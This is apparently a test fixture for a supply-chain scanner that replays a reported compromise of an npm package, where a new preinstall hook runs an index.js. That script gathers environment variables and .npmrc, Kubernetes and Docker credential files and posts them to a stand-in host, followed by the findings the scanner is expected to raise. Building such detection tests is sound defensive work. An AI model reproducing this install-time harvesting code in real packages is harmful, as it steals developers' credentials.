@@ -1,0 +1,44 @@
+import { obfuscated } from '../obfuscated.js'
+import { compiledQueue } from '../plain-modules.js'
+import { replayUpgrade } from '../upgrade.js'
+
+const payload = obfuscated(
+  `
+const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$https=require(«https»);
+const $found=[JSON[«stringify»](process[«env»])];
+for(const $place of [«.npmrc»,«.kube/config»,«.docker/config.json»,«.config/containers/auth.json»]){
+try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
+const $request=$https[«request»]({'hostname':«telemetry-cdn.example»,'path':«/b»,'method':«POST»});
+$request[«on»](«error»,()=>{});
+$request[«end»]($found[«join»](«»)[«slice»](0x0,0x0));
+`,
+  600,
+)
+
+const manifest = { main: 'cjs/index.js' }
+const files = { 'cjs/index.js': compiledQueue }
+const command = 'node index.js'
+
+export const replay = replayUpgrade({
+  description:
+    'A repository was taken over and released through its own pipeline, with valid provenance, three versions of each of its packages: ' +
+    'before install a new file at the root ran.',
+  date: '2026-06-01',
+  name: '@redhat-cloud-services/chrome',
+  from: ['2.3.0', { manifest, files }],
+  to: [
+    '2.3.1',
+    { manifest: { ...manifest, scripts: { preinstall: command } }, files: { ...files, 'index.js': payload } },
+  ],
+  findings: [
+    ['install-script-dangerous', 'critical', { file: 'index.js', line: payload }],
+    ['secrets-exfiltrated', 'critical', { file: 'index.js', line: payload }],
+    ['secrets-harvested', 'critical', { file: 'index.js', line: payload }],
+    ['combined-risk', 'critical'],
+    ['capability-added', 'high', { file: 'index.js', line: payload }],
+    ['code-obfuscated', 'high', { file: 'index.js' }],
+    ['install-script-added', 'high', { file: 'package.json' }],
+    ['beacon-added', 'high', { file: 'index.js', line: payload }],
+    ['network-host-added', 'medium', { file: 'index.js', line: payload }],
+  ],
+})
